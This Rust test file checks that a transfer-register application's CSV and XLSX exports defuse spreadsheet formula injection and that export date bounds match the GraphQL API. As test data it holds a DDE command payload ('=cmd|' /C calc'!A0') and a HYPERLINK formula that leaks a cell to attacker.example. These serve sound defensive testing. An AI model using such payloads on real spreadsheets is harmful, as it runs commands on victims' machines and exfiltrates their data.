//! What an export may not carry into a spreadsheet program: a name it would run as a formula.
//! And the dates exports accept: the same rule as the GraphQL API.

use crate::{
    db_tests,
    fixtures::{activity, flow, org},
    sheets::{bin, ok},
    support::{TestApp, assert_error},
};
use serde_json::{Value, json};
use transfer_register::domain::vocab::Role;

db_tests!(
    every_csv_export_quotes_cells_a_spreadsheet_would_run_and_leaves_ordinary_names_alone,
    a_formula_name_in_the_xlsx_export_is_a_string_cell,
    exports_take_the_dates_the_graphql_api_takes_and_refuse_the_others,
);

const FORMULA: &str = "=cmd|' /C calc'!A0";
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A German controller named as a command, sending e-mail addresses to suppliers named `+1`
/// (on the DPF, so the what-if export has a row), `-1`, `@SUM(1)` and `Rolls-Royce plc`.
async fn register(app: &TestApp) {
    let controller = org(
        app,
        json!({ "name": FORMULA, "kind": "GROUP_COMPANY", "country": "DE" }),
    )
    .await;
    let activity = activity(app, &controller, &["contact.email"]).await;
    for (name, extra) in [
        (
            "+1",
            json!({ "dpaSignedOn": "2024-01-01", "dpfCertified": true }),
        ),
        ("-1", json!({})),
        ("@SUM(1)", json!({})),
        ("Rolls-Royce plc", json!({})),
    ] {
        let mut input = json!({ "name": name, "kind": "SUPPLIER", "country": "US" });
        if let (Some(input), Some(extra)) = (input.as_object_mut(), extra.as_object()) {
            input.extend(extra.clone());
        }
        let supplier = org(app, input).await;
        let mechanism = if name == "+1" { "EU_US_DPF" } else { "NONE" };
        flow(
            app,
            json!({ "activityId": activity, "fromId": controller, "toId": supplier,
                "recipientRole": "PROCESSOR", "dataCategories": ["contact.email"],
                "mechanism": mechanism }),
        )
        .await;
    }
}

/// Every cell of a CSV file.
fn cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| {
            r.expect("a CSV record")
                .iter()
                .map(String::from)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Asserts no cell of `text` starts as a formula, and returns its cells.
fn safe_cells(what: &str, text: &str) -> Vec<String> {
    let cells = cells(text);
    assert!(cells.len() > 5, "{what}: {text}");
    for cell in &cells {
        assert!(!cell.starts_with(TRIGGERS), "{what}: {cell:?} in\n{text}");
    }
    cells
}

const KINDS: [(&str, &str); 8] = [
    ("ropa", ""),
    ("transfers", ""),
    ("gaps", ""),
    ("organisations", ""),
    ("locations", ""),
    ("activities", ""),
    ("flows", ""),
    ("whatif", "mechanism=EU_US_DPF&endsOn=2027-03-01"),
];

async fn every_csv_export_quotes_cells_a_spreadsheet_would_run_and_leaves_ordinary_names_alone(
    app: TestApp,
) {
    register(&app).await;
    app.ok(
        r#"mutation($input: AddLocationInput!) { addLocation(input: $input) { id } }"#,
        json!({ "input": { "organisationId": "1", "country": "IE", "use": "STORAGE" } }),
    )
    .await;
    let quoted = format!("'{FORMULA}");
    let mut seen = std::collections::HashMap::new();
    // The command line.
    for (kind, _) in KINDS {
        let mut args = vec!["export", kind, "--format", "csv"];
        if kind == "whatif" {
            args.extend(["--mechanism", "EU_US_DPF", "--ends-on", "2027-03-01"]);
        }
        let text = ok(&bin(&app, &args));
        seen.insert(kind, safe_cells(&format!("export {kind}"), &text));
    }
    for (kind, expected) in [
        (
            "organisations",
            vec![quoted.as_str(), "'+1", "'-1", "'@SUM(1)", "Rolls-Royce plc"],
        ),
        (
            "ropa",
            vec![quoted.as_str(), "'+1", "'-1", "'@SUM(1)", "Rolls-Royce plc"],
        ),
        (
            "transfers",
            vec![quoted.as_str(), "'+1", "'-1", "'@SUM(1)", "Rolls-Royce plc"],
        ),
        ("gaps", vec![quoted.as_str()]),
        ("locations", vec![quoted.as_str()]),
        ("activities", vec![quoted.as_str()]),
        ("flows", vec![quoted.as_str(), "'+1", "Rolls-Royce plc"]),
        ("whatif", vec![quoted.as_str(), "'+1"]),
    ] {
        for cell in expected {
            assert!(
                seen[kind].iter().any(|c| c == cell),
                "{cell:?} in export {kind}: {:?}",
                seen[kind]
            );
        }
    }
    // Over HTTP, the same files.
    let base = app.serve().await;
    let token = app.token(Role::Auditor).await;
    let client = reqwest::Client::new();
    for (kind, query) in KINDS {
        let response = client
            .get(format!("{base}/exports/{kind}.csv?{query}"))
            .bearer_auth(&token)
            .send()
            .await
            .expect("send");
        assert_eq!(response.status(), 200, "{kind}");
        let text = response.text().await.expect("body");
        let cells = safe_cells(&format!("/exports/{kind}.csv"), &text);
        assert!(cells.contains(&quoted), "{kind}: {cells:?}");
    }
    // Read back, the names are the names: the organisations export imports unchanged.
    let text = ok(&bin(&app, &["export", "organisations", "--format", "csv"]));
    let data = app
        .ok(
            "mutation($content: String!) { importRecords(kind: ORGANISATIONS, fileName: \"o.csv\", content: $content, dryRun: true) { imported errors { line field message } } }",
            json!({ "content": text }),
        )
        .await;
    assert_eq!(data["importRecords"]["errors"], json!([]), "{data:#}");
    assert_eq!(data["importRecords"]["imported"], 5);
}

async fn a_formula_name_in_the_xlsx_export_is_a_string_cell(app: TestApp) {
    use calamine::{Data, Reader, Xlsx};
    let name = r#"=HYPERLINK("http://attacker.example/?leak="&A2,"Click me")"#;
    org(
        &app,
        json!({ "name": name, "kind": "SUPPLIER", "country": "US" }),
    )
    .await;
    let dir = tempfile::tempdir().expect("dir");
    let file = dir.path().join("organisations.xlsx");
    ok(&bin(
        &app,
        &[
            "export",
            "organisations",
            "--output",
            file.to_str().expect("utf-8"),
        ],
    ));
    let mut workbook: Xlsx<_> = calamine::open_workbook(&file).expect("an xlsx file");
    let range = workbook
        .worksheet_range_at(0)
        .expect("a worksheet")
        .expect("readable");
    assert_eq!(range.get((1, 0)), Some(&Data::String(name.to_string())));
    let sheet = workbook.sheet_names()[0].clone();
    let formulas = workbook.worksheet_formula(&sheet).expect("formulas");
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula cells: {formulas:?}"
    );
}

async fn exports_take_the_dates_the_graphql_api_takes_and_refuse_the_others(app: TestApp) {
    let base = app.serve().await;
    let token = app.token(Role::Auditor).await;
    let client = reqwest::Client::new();
    let http = |path: String| {
        let (client, token) = (client.clone(), token.clone());
        let base = base.clone();
        async move {
            let response = client
                .get(format!("{base}{path}"))
                .bearer_auth(&token)
                .send()
                .await
                .expect("send");
            let status = response.status().as_u16();
            let body: Value = if status == 200 {
                Value::Null
            } else {
                response.json().await.expect("json")
            };
            (status, body)
        }
    };
    let graphql = |on: &str| {
        let app = &app;
        let on = on.to_string();
        async move {
            app.gql(
                "query($on: Date) { transferRegister(on: $on) { status } }",
                json!({ "on": on }),
            )
            .await
        }
    };
    // The days a verdict is given for, at both ends: GraphQL and the exports agree.
    for on in ["1995-01-01", "2100-01-01", "2026-11-27"] {
        let response = graphql(on).await;
        assert!(response.get("errors").is_none(), "{on}: {response:#}");
        assert_eq!(
            http(format!("/exports/transfers.csv?on={on}")).await.0,
            200,
            "{on}"
        );
        ok(&bin(&app, &["export", "transfers", "--on", on]));
    }
    for on in [
        "1994-12-31",
        "2100-01-02",
        "2201-01-01",
        "0001-01-01",
        "+2026-01-01",
        "20266-01-01",
    ] {
        let response = graphql(on).await;
        assert_error(&response, "BAD_USER_INPUT", Some("on"));
        let (status, body) = http(format!("/exports/transfers.csv?on={on}")).await;
        assert_eq!(status, 400, "{on}: {body}");
        assert_eq!(
            body["errors"][0]["extensions"]["field"], "on",
            "{on}: {body}"
        );
        let output = bin(&app, &["export", "ropa", "--on", on]);
        assert!(!output.status.success(), "export ropa --on {on}");
    }
    // endsOn: the Date scalar's bounds, as the whatIf query's.
    for ends_on in ["2201-01-01", "1899-12-31"] {
        let (status, body) = http(format!(
            "/exports/whatif.csv?mechanism=EU_US_DPF&endsOn={ends_on}&on=2026-01-01"
        ))
        .await;
        assert_eq!(status, 400, "{ends_on}: {body}");
        assert_eq!(body["errors"][0]["extensions"]["field"], "endsOn", "{body}");
        let output = bin(
            &app,
            &[
                "export",
                "whatif",
                "--mechanism",
                "EU_US_DPF",
                "--ends-on",
                ends_on,
                "--on",
                "2026-01-01",
            ],
        );
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success(), "{stderr}");
        assert!(stderr.contains("2200-12-31"), "{stderr}");
    }
    // The service itself holds the rule, whoever calls it.
    let refused = transfer_register::service::export::build(
        &app.state.db,
        &app.state.reference,
        transfer_register::service::export::ExportKind::Transfers,
        transfer_register::service::export::ExportOptions {
            on: chrono::NaiveDate::from_ymd_opt(2150, 1, 1).expect("date"),
            processor: None,
            controller: None,
            what_if: None,
        },
    )
    .await;
    assert!(
        matches!(&refused, Err(transfer_register::error::AppError::BadInput { field, .. }) if field == "on"),
        "{:?}",
        refused.map(|t| t.rows.len())
    );
}
